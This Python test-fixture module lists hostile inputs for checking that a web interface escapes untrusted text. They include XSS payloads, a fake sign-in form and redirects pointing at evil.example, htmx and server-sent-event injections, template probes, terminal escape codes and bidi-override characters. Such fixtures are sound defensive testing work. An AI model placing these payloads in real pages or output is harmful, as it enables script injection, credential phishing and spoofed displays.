"""What models, tools and users write who attack whoever looks at it."""

import re

SCRIPTS = (
    "<script>alert('script')</script>",
    "<img src='https://evil.example/x.png' onerror=\"alert('img')\">",
    "<svg onload=alert('svg')><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "\"><iframe srcdoc='<script>parent.alert(2)</script>'></iframe>",
    "' onmouseover='alert(3)' autofocus onfocus='alert(4)",
    "</pre></textarea></template></title><script>alert(5)</script><!--",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<form action='https://evil.example'><button>Sign in</button></form>",
    "<base href='https://evil.example/'><meta http-equiv='refresh' content='0; url=//evil.com'>",
)
"""HTML that would be executed, load something, or look like a part of the page."""

SWAPS = (
    '</hx-partial><hx-partial hx-target="body" hx-swap="innerHTML">owned</hx-partial>',
    "<button hx-post='/ui/runs/x/cancel' hx-trigger='load'>x</button>",
    "<div hx-on:click='alert(6)' hx-get='https://evil.example' hx-trigger='load'></div>",
    "\r\n\r\nevent: close\r\ndata: owned\r\n\r\n",
    "{{ 7 * 191 }} {% raw %}{# x #} ${7 * 191}",
)
"""What would get into a stream of parts, or into a template."""

LINKS = (
    "[click](javascript:alert(7)) ![](https://evil.example/p.png) <javascript:alert(8)>",
    "https://evil.example/?q= data:text/html,<script>alert(9)</script>",
)
"""Links and pictures in Markdown."""

CONTROLS = (
    "\x1b[31mred\x1b]0;title\x07 \x9b2J \x00 \x7f",
    "\u202egnp.exe\u202c \u2066\u2067\u2069 \u200b\u200f\ufeff zero",
)
"""Characters that command terminals, or turn a line around."""

EVERYTHING = "\n".join((*SCRIPTS, *SWAPS, *LINKS, *CONTROLS))
"""All of these in one text."""

RAW = re.compile(".{,40}[\x00\x07\x1b\x7f\x9b\u202e\u202c\u2066\u2067\u2069].{,20}")
"""Finds the characters that must not be in a page as they are."""
